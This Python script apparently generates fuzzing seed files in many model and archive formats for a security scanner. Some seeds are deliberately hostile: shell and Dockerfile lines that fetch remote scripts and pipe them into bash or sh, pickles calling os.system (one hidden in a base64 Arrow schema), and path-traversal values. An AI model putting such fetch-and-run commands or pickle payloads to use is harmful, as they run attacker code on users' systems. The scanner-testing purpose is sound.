#!/usr/bin/env python3
"""make_seeds.py FOLDER: small valid files of the formats that the labelled samples lack, as seeds for fuzzing."""
import base64
import json
import os
import struct
import sys

folder = sys.argv[1]
os.makedirs(folder, exist_ok=True)


def write(name, data):
    with open(os.path.join(folder, name), "wb") as file:
        file.write(data if isinstance(data, bytes) else data.encode())


def field(number, payload):
    if isinstance(payload, int):
        return bytes([number << 3]) + varint(payload)
    payload = payload.encode() if isinstance(payload, str) else payload
    return bytes([number << 3 | 2]) + varint(len(payload)) + payload


def varint(value):
    out = b""
    while value > 0x7F:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])


# Compressed streams: an lz4 frame and a zstd frame, each of one uncompressed block; a snappy-framed stream.
write("stored.lz4", b"\x04\x22\x4D\x18\x60\x40\x82" + struct.pack("<I", 0x80000005) + b"hello" + bytes(4))
write("stored.zst", b"\x28\xB5\x2F\xFD\x20\x05" + struct.pack("<I", 5 << 3 | 1)[:3] + b"hello")
write("skippable.zst", b"\x50\x2A\x4D\x18" + struct.pack("<I", 3) + b"abc")
# Archives that are only recognised.
write("empty.rar", b"Rar!\x1A\x07\x00")
file = b"\x02\x02\x03\0\x09\0\0\x01\x05a.bin"
write("stored.rar", b"Rar!\x1A\x07\x01\0" + b"\0\0\0\0\x03\x01\0\0" + bytes(4) + bytes([len(file)]) + file + b"abc" + b"\0\0\0\0\x03\x05\0\0")
old = bytes([3, 0, 0, 0, 3, 0, 0, 0, 3]) + bytes(8) + bytes([29, 0x30, 5, 0]) + bytes(4) + b"a.bin"
write("stored4.rar", b"Rar!\x1A\x07\0" + b"\0\0\x73\0\0\x0d\0" + bytes(6) + b"\0\0\x74\0\x80" + struct.pack("<H", 7 + len(old)) + old + b"abc" + b"\0\0\x7b\0\0\x07\0")
write("legacy.lz4", b"\x02\x21\x4C\x18" + struct.pack("<I", 6) + b"\x50hello")
# Commands, build files, a server's configuration, a program in PaddlePaddle's newer form, objects of Java and .NET.
write("run.sh", "#!/bin/sh\ncurl -fsSL http://198.51.100.7/a \\\n  | sudo bash\nbash <(wget -qO- https://example.com)\n")
write("Dockerfile", "FROM python:3.11\nRUN pip install x --index-url http://198.51.100.7 && \\\n  echo aWQ= | base64 -d | sh\nADD http://a/b /c\n")
write("Modelfile", "FROM ./m.gguf\nADAPTER ../../x\nTEMPLATE \"\"\"{{ .Prompt }}\"\"\"\n")
write("config.pbtxt", 'name: "m"\nbackend: "../x"\nmodel_operations { op_library_filename: [ "a.so", "\\057b.so" ] }\n'
      'parameters: { key: "EXECUTION_ENV_PATH", value: { string_value: "/a/env.tar.gz" } }\n')
write("pir.json", json.dumps({"base_code": {"magic": "pir"}, "program": {"regions": [{"blocks": [{"ops": [{"#": "1.py_func", "A": [], "I": [], "O": []}]}]}]}}))
write("objects.ser", b"\xac\xed\0\x05\x73\x72\0\x11java.util.HashMap" + bytes(8) + b"\x03\0\0\x78\x70\x73\x7d\0\0\0\x01\0\x0djava.util.Map\x78\x70")
write("objects.net", b"\0\x01\0\0\0\xff\xff\xff\xff\x01" + bytes(7) + b"\x0c\x02\0\0\0\x13System.Data.DataSet")
write("program.bin", bytes(range(1, 100)) * 3 + b"\x7fELF\x02\x01\x01" + bytes(100) + b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(80))
write("library.a", b"!<arch>\n" + b"name/           0           0     0     644     4         `\n" + b"abcd")
write("old.cpio", b"070701" + b"0" * 104)
# GGML's forebears: header, parameters, a vocabulary of two, one tensor.
tensor = struct.pack("<III", 1, 3, 0) + struct.pack("<I", 4) + b"wte" + struct.pack("<4f", 1, 2, 3, 4)
parameters = struct.pack("<7I", 2, 8, 1, 1, 1, 1, 0)
words = struct.pack("<I", 1) + b"a" + struct.pack("<I", 2) + b"bc"
scored = struct.pack("<I", 1) + b"a" + struct.pack("<f", 0.5) + struct.pack("<I", 2) + b"bc" + struct.pack("<f", 1)
write("model.ggml", struct.pack("<I", 0x67676D6C) + parameters + words + tensor)
write("model.ggmf", struct.pack("<II", 0x67676D66, 1) + parameters + scored + tensor)
write("model.ggjt", struct.pack("<II", 0x67676A74, 3) + parameters + scored + tensor)
write("adapter.ggla", struct.pack("<IIII", 0x67676C61, 1, 8, 16) + tensor)
# Graphs in text.
write("graph.pbtxt", 'node {\n  name: "a"\n  op: "Placeholder"\n  attr { key: "dtype" value { type: DT_FLOAT } }\n}\n'
      'node { name: "w" op: "WriteFile" input: "a" }\nlibrary { function { signature { name: "f" } } }\n')
write("net.prototxt", 'name: "n"\nlayer { name: "p" type: "Python" python_param { module: "m" layer: "L" } }\n')
write("symbol.json", json.dumps({"nodes": [
    {"op": "null", "name": "data", "inputs": []},
    {"op": "Custom", "name": "c", "attrs": {"op_type": "evil"}, "inputs": [[0, 0, 0]]}],
    "arg_nodes": [0], "heads": [[1, 0, 0]]}))
write("model.params", struct.pack("<QQQ", 0x112, 0, 1) + struct.pack("<IiI", 0xF993FAC9, 0, 1) + bytes(32)
      + struct.pack("<QQ", 1, 1) + b"w")
# Engines: magic numbers, a library path, the start of a pickle.
inside = bytes(16) + b"/opt/lib/libplugin.so\0" + b"\x80\x04\x95\x14\0\0\0\0\0\0\0\x8c\x02os\x8c\x06system\x93."
write("model.engine", b"ptrt" + inside)
write("model.rknn", b"RKNN" + inside)
write("model.cntk", b"B\0C\0N\0" + inside)
write("model.ort", struct.pack("<I", 16) + b"ORTM" + inside)
# Objects in JSON.
write("spark.json", json.dumps({"class": "org.apache.spark.ml.PipelineModel", "sparkVersion": "3.5.0", "uid": "p",
                                "paramMap": {"stageUids": ["a"]}}))
write("metadata.pb", field(1, field(2, json.dumps({"class_name": "Lambda", "config": {"name": "l"}}))))
# Models of trees.
write("xgboost.json", json.dumps({"learner": {"attributes": {"note": "a text of some length"}, "feature_names": ["x"],
                                              "gradient_booster": {"model": {"trees": []}}}, "version": [2, 0, 0]}))
write("xgboost.ubj", b"{L\0\0\0\0\0\0\0\x07learner{L\0\0\0\0\0\0\0\x0Aattributes{L\0\0\0\0\0\0\0\x04noteSL\0\0\0\0\0\0\0\x05"
      b"hello}L\0\0\0\0\0\0\0\x01a[$d#L\0\0\0\0\0\0\0\x02\0\0\0\0\0\0\0\0}}")
write("model.lgb", "tree\nversion=v4\nnum_class=1\nfeature_names=a b\n\nTree=0\nnum_leaves=2\n\nend of trees\n")
write("model.cbm", b"CBM1" + struct.pack("<I", 16) + bytes(16))
# TensorFlow: a graph of two nodes, and a checkpoint's table of one tensor.
node = field(1, "w") + field(2, "WriteFile") + field(3, "a") + field(5, field(1, "T") + field(2, field(6, 1)))
write("graph.pb", field(1, node) + field(1, field(1, "a") + field(2, "Const")) + field(4, field(1, 1)))
write("keras_metadata.pb", field(1, field(2, 1) + field(3, "root") + field(4, "_tf_keras_model")
                                 + field(5, json.dumps({"class_name": "Functional", "config": {"layers": []}}))))


def block(entries):
    return b"".join(bytes([0, len(k), len(v)]) + k + v for k, v in entries) + struct.pack("<II", 0, 1)


entry = field(1, 1) + field(2, field(2, field(1, 4))) + field(3, 0) + field(4, 0) + field(5, 16)
data = block([(b"", field(1, 1)), (b"dense/bias", entry), (b"dense/kernel", entry)])
table = data + bytes(5)
index = block([(b"z", varint(0) + varint(len(data)))])
footer = varint(0) + varint(0) + varint(len(table)) + varint(len(index))
write("model.index", table + index + bytes(5) + footer.ljust(40, b"\0") + bytes.fromhex("57fb808b247547db"))
# PPMd: the coder's properties (order 6 in 2 KiB, order 16 in 64 KiB), and the stream.
write("small.ppmd", bytes.fromhex(
    "0600080000006bf3ab38e3fe7c59da919238e464dde5a9ed6e77d566e0081478703168ccd2b788d4fbcf931ac57833ce62fb8f49e2fbfe"
    "4d321d454240b03235ed86dd2a865f8454a89cf990dd362b5436c6b4c1861c511dc26fb873575e14c27743d9136a887a538128d5538239"
    "a469dcb46184824ca65d7a7ddeb034eef9a67ac13cc37d4816f69733629825057badf823fa7c52e5c3e2efe20424f622566964f8883941"
    "2c87da874213410510a47a43235fe409db6846c6f413e9800b8ab557ba3209a2f0fec9b4d35fa657132f97b1704bc7678df6428a00a4c0"
    "57e61354199248c80e64810f9025efe5a5cfd64d8c767abf046bb31297f3687291c88ff3d80b2f78274aa48ed52c97ff9cbb1b5abb1d4d"
    "0d2e417427e94af13d1a812329599c5b3b7e957b00"))
write("deep.ppmd", bytes.fromhex(
    "1000000100006bf3ab38e3fe7c59da919238e464dde5a9ed6e77d454749774deb5399d092feb00df152c72d479f7f92dcbba5fd93bc23f"
    "6e13729a468ae1863615f8b5695b979903ea24b6b123e3a5f2d599a947e6c01630d8026793bdfc08bcfcd132994c4d1d00000000000000"
    "000000"))
# Arrow's schema of one column in another, with a type that is a pickle: as a stream, a file, and in a Parquet file's footer.
schema = base64.b64decode(
    "/////2ABAAAQAAAAAAAKAAwABgAFAAgACgAAAAABBAAMAAAACAAIAAAABAAIAAAABAAAAAEAAAAUAAAAEAAUAAgABgAHAAwAAAAQABAAAAAAAA"
    "ENFAAAABwAAAAEAAAAAQAAACgAAAABAAAAeAAAAAQABgAEAAAAAAASABgACAAGAAcADAAAABAAFAASAAAAAAABAhQAAADAAAAACAAAABAAAAAA"
    "AAAAAQAAAHkAAAACAAAAWAAAAAQAAAC4////JAAAAAQAAAAVAAAAY29zCnN5c3RlbQooUydpZCcKdFIuAAAAGAAAAEFSUk9XOmV4dGVuc2lvbj"
    "ptZXRhZGF0YQAAAAAIAAwABAAIAAgAAAAkAAAABAAAABcAAABhcnJvdy5weV9leHRlbnNpb25fdHlwZQAUAAAAQVJST1c6ZXh0ZW5zaW9uOm5h"
    "bWUAAAAACAAMAAgABwAIAAAAAAAAAUAAAAAAAAAA")
write("schema.arrows", schema)
write("schema.arrow", b"ARROW1\0\0" + schema)
text = base64.b64encode(schema)
pair = b"\x18\x0CARROW:schema\x18" + varint(len(text)) + text + b"\0"
parquet = b"\x15\x04\x26\0\x29\x2C" + pair + b"\x18\x01a\x18\x01b\0" + b"\x18\x05maker" + b"\0"
write("schema.parquet", b"PAR1" + parquet + struct.pack("<I", len(parquet)) + b"PAR1")
